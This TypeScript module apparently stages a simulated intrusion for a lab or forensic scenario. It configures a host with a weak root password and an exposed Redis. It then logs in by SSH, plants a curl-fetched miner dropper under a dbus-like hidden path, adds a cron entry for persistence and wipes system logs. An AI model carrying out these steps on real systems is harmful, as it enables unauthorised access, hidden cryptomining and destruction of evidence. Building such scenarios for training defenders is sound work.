// Guessed, entered, wiped; the miner is started by cron, so that nothing is inherited from the session. An open Redis stands there too.
import type { Dress } from '../../dress.ts'
import { dropper } from '../../dropper.ts'
import { openRedis } from '../../redis.ts'
import type { Stage } from '../../stage.ts'
import { wipe } from '../../wiping.ts'

export function dress(dress: Dress): void {
  dress.account('root', 'admin123')
  dress.sshd('PermitRootLogin yes')
  openRedis(dress, { bind: '0.0.0.0', user: 'redis' })
  dress.logins({ days: 20, guesses: 60 })
}

export async function plant(stage: Stage): Promise<void> {
  const line = dropper(stage, { path: '/usr/lib/.dbus/dbus-kd', fetch: 'curl', cron: false })
  stage.mark('occurrence')
  await stage.ssh('203.0.113.66', 'root', { password: 'admin123' }, `echo '*/30 * * * * root ${line}' >/etc/cron.d/dbus`)
  await stage.byCron(line)
  await wipe(stage, ['auth', 'syslog', 'cron', 'journal', 'logins', 'redis'])
}
